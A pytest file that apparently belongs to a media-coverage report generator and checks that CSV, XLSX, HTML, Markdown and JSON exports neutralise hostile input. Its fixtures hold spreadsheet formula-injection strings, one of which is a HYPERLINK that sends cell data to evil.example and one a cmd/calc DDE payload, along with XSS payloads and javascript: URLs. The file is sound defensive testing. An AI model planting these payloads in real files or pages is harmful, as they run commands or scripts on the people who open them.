"""Hostile titles, outlet names and links from outside feeds come out inert in every format."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt

from publisher.clock import ManualClock
from publisher.queue import Queue
from publisher.reports import safety
from publisher.reports.build import write_reports
from publisher.store import Store
from publisher.tracker.outlets import OutletSpec, add_outlet
from publisher.tracker.settings import TrackerSettings
from tests.reports.conftest import REPORTED_AT, at, coverage, set_coverage
from tests.reports.test_formats import _assert_self_contained, parse

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
MARKUP = [
    "<script>alert('x')</script>通知",
    '<img src=x onerror="alert(1)">',
    "[点我](javascript:alert(1))",
    "**粗体** | 表格 | ![图](http://evil.example/x.png) `code` <b>b</b> &amp;",
    "# 标题\n- 列表",
]
TITLES = FORMULAS + MARKUP
OUTLET = "=恶意<b>媒体</b>"
CAMPAIGN = "注入测试"


@pytest.fixture
def hostile(store: Store, queue: Queue, clock: ManualClock) -> list[int]:
    queue.add_campaign(CAMPAIGN, timezone="Asia/Shanghai")
    add_outlet(store, OutletSpec(name=OUTLET, kind="news_site"), TrackerSettings(), clock.now(), "tester")
    ids = [
        # a day each: some titles differ only in spaces, and the same title on one day is one item
        coverage(store, CAMPAIGN, OUTLET, title, at(1 + i, 8 + i % 12), f"https://news.example.cn/{i}")
        for i, title in enumerate(TITLES)
    ]
    # text and links no feed parser would keep (they are stripped), stored anyway
    for item_id, title in zip(ids, TITLES, strict=True):
        set_coverage(store, item_id, title=title)
    set_coverage(store, ids[0], url="javascript:alert(1)")
    set_coverage(store, ids[1], url='https://ok.example/a"onmouseover="alert(1)')
    set_coverage(store, ids[2], url="=cmd|' /C calc'!A0")
    clock.set(REPORTED_AT)
    return ids


def _report(store: Store, fmt: str, path: Path) -> Path:
    return write_reports(store, CAMPAIGN, [fmt], now=REPORTED_AT, out=path).paths[0]


def test_csv_cells_never_start_a_formula(store: Store, hostile: list[int], tmp_path: Path) -> None:
    with zipfile.ZipFile(_report(store, "csv", tmp_path / "r.zip")) as archive:
        cells = [
            cell
            for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
            for cell in row
        ]
        coverage_rows = list(csv.reader(io.StringIO(archive.read("coverage.csv").decode("utf-8-sig"), newline="")))
    for cell in cells:
        assert not safety.is_formula_like(cell), repr(cell)
    titles = [row[4] for row in coverage_rows[1:]]
    assert titles[: len(FORMULAS)] == ["'" + t for t in FORMULAS]
    assert titles[len(FORMULAS) :] == MARKUP  # not a formula: kept as it is
    assert {row[2] for row in coverage_rows[1:]} == {"'" + OUTLET}
    assert coverage_rows[3][5] == "'=cmd|' /C calc'!A0"


def test_xlsx_text_is_text_never_a_formula(store: Store, hostile: list[int], tmp_path: Path) -> None:
    book = openpyxl.load_workbook(_report(store, "xlsx", tmp_path / "r.xlsx"))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
    sheet = book["媒体报道"]
    titles = [sheet.cell(r, 5) for r in range(2, 2 + len(TITLES))]
    assert [c.value for c in titles] == [t if t.isprintable() else safety.one_line(t) for t in TITLES]
    for cell in titles:
        assert cell.quotePrefix == safety.is_formula_like(cell.value), cell.value  # stays text when edited
    assert sheet.cell(2, 3).value == OUTLET
    assert sheet.cell(2, 3).quotePrefix
    assert sheet["F2"].hyperlink is None  # javascript: is not made a link
    assert sheet["F2"].value == "javascript:alert(1)"
    assert sheet["F4"].hyperlink is None
    assert sheet["F4"].quotePrefix


def test_html_escapes_everything_and_links_only_http(store: Store, hostile: list[int], tmp_path: Path) -> None:
    text = _report(store, "html", tmp_path / "r.html").read_text(encoding="utf-8")
    page = parse(text)
    _assert_self_contained(page)  # no script, no img, no on* attribute, only http(s) links
    rows = page.tables["coverage"][1:]
    assert [" ".join(row[4].split()) for row in rows] == [" ".join(t.split()) for t in TITLES]
    assert {row[2] for row in rows} == {OUTLET}
    hrefs = [attrs["href"] for tag, attrs in page.tags if tag == "a"]
    assert "javascript:alert(1)" not in hrefs
    assert 'https://ok.example/a"onmouseover="alert(1)' in hrefs  # one attribute value, quotes escaped
    assert "<script>alert" not in text
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in text


def test_markdown_escapes_its_syntax(store: Store, hostile: list[int], tmp_path: Path) -> None:
    source = _report(store, "md", tmp_path / "r.md").read_text(encoding="utf-8")
    rendered = MarkdownIt("commonmark").enable("table").render(source)  # raw HTML allowed: the strictest test
    for forbidden in ("<script", "<img", 'javascript:alert(1)"', 'href="javascript', "<strong>", "<code>", "<b>"):
        assert forbidden not in rendered, forbidden
    assert "&lt;script&gt;alert('x')&lt;/script&gt;通知" in rendered
    assert "[点我](javascript:alert(1))" in rendered  # shown as typed
    items = rendered.split("<h2>媒体报道明细</h2>")[1].split("</table>")[0]
    assert items.count("<tr>") == 1 + len(TITLES)
    assert items.count("<td") == 9 * len(TITLES)  # no title opened a new cell or row
    table_rows = [line for line in source.splitlines() if line.startswith("| ") and "news.example.cn" in line]
    assert all(line.count(" | ") == 8 for line in table_rows)


def test_json_keeps_the_text_exactly(store: Store, hostile: list[int], tmp_path: Path) -> None:
    document = json.loads(_report(store, "json", tmp_path / "r.json").read_text(encoding="utf-8"))
    assert [item["title"] for item in document["coverage"]] == TITLES


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\u3000=x", "'\u3000=x"),
        ("a=b", "a=b"),
        ("阅读月", "阅读月"),
        ("x\x00y\x1b", "xy"),
    ],
)
def test_cell(value: str, expected: str) -> None:
    assert safety.cell(value) == expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://a.example/x?y=1&z=2", "https://a.example/x?y=1&amp;z=2"),
        ("http://a.example/", "http://a.example/"),
        ("javascript:alert(1)", None),
        ("JAVASCRIPT:alert(1)", None),
        ("data:text/html,<script>", None),
        ("https://a.example/ x", None),
        ("", None),
        (None, None),
    ],
)
def test_href(url: str | None, expected: str | None) -> None:
    assert safety.href(url) == expected


def test_markdown_text_and_urls() -> None:
    assert safety.markdown("1. 第一") == "1\\. 第一"
    assert safety.markdown("- 项") == "\\- 项"
    assert safety.markdown("a|b *c* _d_ `e` <f> [g](h) !i ~j &k #l") == (
        "a\\|b \\*c\\* \\_d\\_ \\`e\\` \\<f\\> \\[g\\](h) \\!i \\~j \\&k \\#l"
    )
    assert safety.markdown("第一行\n第二行") == "第一行 第二行"
    assert safety.markdown_url("https://a.example/(x)<y>") == "https://a.example/%28x%29%3Cy%3E"
    assert safety.markdown_url("javascript:x") is None
